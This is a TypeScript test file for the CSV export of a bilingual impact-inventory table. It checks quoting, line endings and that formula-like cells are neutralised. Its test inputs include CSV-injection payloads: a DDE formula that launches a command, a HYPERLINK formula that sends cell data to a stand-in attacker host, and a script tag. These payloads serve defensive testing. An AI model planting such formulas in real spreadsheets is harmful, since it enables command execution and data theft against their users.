import fc from 'fast-check';
import { impactInventory as table } from '../../../src/domain/process/default/impact-inventory';
import { cleanCell } from '../../../src/domain/table/clean-cell';
import { parseDelimited } from '../../../src/domain/table/parse-delimited';
import { readTableText } from '../../../src/domain/table/read-table-text';
import { tableAsCsv } from '../../../src/domain/table/table-as-csv';
import type { Cells } from '../../../src/domain/table/table-index';

const LANGUAGES = ['zh', 'en'] as const;
const csv = (rows: readonly Cells[], language: 'zh' | 'en') =>
  tableAsCsv(
    table,
    rows.map((cells, at) => ({ id: String(at + 1), cells })),
    language,
  );
/** The project of a lone row, as a spreadsheet would show it. */
const written = (project: string) => {
  const parsed = parseDelimited(csv([{ customer: 'A', project }], 'en'));
  return parsed.ok ? parsed.records[1]?.cells[1] : undefined;
};

test('headings and options are in the language, with mark, CRLF and quotes where they are needed', () => {
  const rows = [
    { customer: '仁济医院', region: '华东', contractStatus: 'maintenance', customerNotice: 'notNeeded' },
    { customer: 'Acme "West", Inc.', supportPlan: '到 2027\n之后; 按次', projectOwner: 'a\tb' },
  ];
  expect(csv(rows, 'zh')).toBe(
    '\uFEFF客户名称,项目,区域,合同状况,版本,项目负责人,支持计划,客户告知\r\n' +
      '仁济医院,,华东,维保期,,,,无需告知\r\n' +
      '"Acme ""West"", Inc.",,,,,"a\tb","到 2027\n之后; 按次",\r\n',
  );
  expect(csv(rows, 'en')).toContain(
    'Customer,Project,Region,Contract status,Version,Project owner,Support plan,Customer informed\r\n仁济医院,,华东,Maintenance,,,,Not needed\r\n',
  );
});

test.each([
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  '+1',
  '-5',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u3000=1',
  '\u00A0@x',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '\tx',
  `'=1`,
  `''+1`,
])('a formula never leaves as a formula: %j', (cell) => {
  expect(written(cell)).toBe(`'${cell}`);
  const { rows } = readTableText(table, csv([{ customer: 'A', project: cell }], 'zh'));
  expect(rows[0]?.['project']).toBe(cleanCell(cell));
});

test.each([
  '<script>alert(1)</script>',
  '__proto__',
  `'60s`,
  '5-3',
  'a=b',
  'x@example.com',
  '00123',
  '1,5',
  "'",
])('what is no formula stays as it is: %s', (cell) => {
  expect(written(cell)).toBe(cell);
});

test('a table is read back from what was written of it, whatever its cells hold', () => {
  const nasty = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    "'",
    '"',
    '="',
    ',',
    ';',
    '\t',
    '\r\n',
    '\n',
    ' ',
    '＝',
    '\uFEFF',
  );
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.string({ unit: fc.oneof(nasty, fc.constantFrom('a', '客', '1')), maxLength: 12 }),
    fc.constantFrom(
      `=cmd|' /C calc'!A0`,
      '="00123"',
      `'="1"`,
      '__proto__',
      '<script>',
      'sep=;',
      '\uD83D',
      '😀',
    ),
  );
  const row = fc.record(
    {
      customer: text.filter((each) => cleanCell(each) !== ''),
      project: text,
      region: text,
      contractStatus: fc.constantFrom('signed', 'inDelivery', 'terminated'),
      version: text,
      projectOwner: text,
      supportPlan: text,
      customerNotice: fc.constantFrom('informed', 'notNeeded'),
    },
    { requiredKeys: ['customer'] },
  );
  fc.assert(
    fc.property(
      fc.array(row, { minLength: 1, maxLength: 8 }),
      fc.constantFrom(...LANGUAGES),
      (list, language) => {
        const rows = list.map((cells) =>
          Object.fromEntries(
            Object.entries(cells)
              .map(([key, cell]) => [key, cleanCell(cell)] as const)
              .filter(([, cell]) => cell !== ''),
          ),
        );
        expect(readTableText(table, csv(rows, language))).toMatchObject({
          rows,
          problems: [],
          ignoredColumns: [],
        });
      },
    ),
    { numRuns: 2000 },
  );
});

test('no cell that is written begins like a formula', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (cell) => {
      expect(written(`${cell}.`)).not.toMatch(/^\s*[=+\-@＝＋－＠]|^\s*[\t\r\n]/);
    }),
    { numRuns: 2000 },
  );
});
